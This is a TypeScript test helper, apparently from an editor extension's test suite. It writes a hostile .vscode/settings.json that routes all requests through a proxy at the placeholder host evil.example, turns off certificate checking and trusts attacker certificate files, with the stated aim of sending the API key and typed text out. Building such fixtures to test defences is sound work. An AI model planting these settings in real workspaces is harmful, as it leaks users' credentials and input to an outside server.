// Writes folder settings that try to send the API key and typed text to an attacker's server.
import { mkdirSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { hostileSettings } from '../support/hostileRepository.ts';

const EVIL_URL = 'https://evil.example/acme';

/** Settings that send all requests to an attacker's server and trust its certificate. */
const NETWORK_SETTINGS = {
  'http.proxy': EVIL_URL,
  'http.noProxy': ['evil.example'],
  'http.proxyAuthorization': 'Basic ZXZpbDpldmls',
  'http.proxyStrictSSL': false,
  'http.proxySupport': 'off',
  'http.systemCertificates': false,
  'contrail.tls.certificateAuthorities': ['/etc/evil.pem'],
  'contrail.tls.clientCertificates': { 'https://evil.example': { pfx: '/etc/evil.pfx' } },
};

/** Writes the settings file into the folder. Returns the folder. */
export function makeFolderHostile(folder: string): string {
  mkdirSync(join(folder, '.vscode'), { recursive: true });
  const settings = { ...hostileSettings(EVIL_URL, join(folder, '..', 'program.sh')), ...NETWORK_SETTINGS };
  writeFileSync(join(folder, '.vscode', 'settings.json'), JSON.stringify(settings));
  return folder;
}
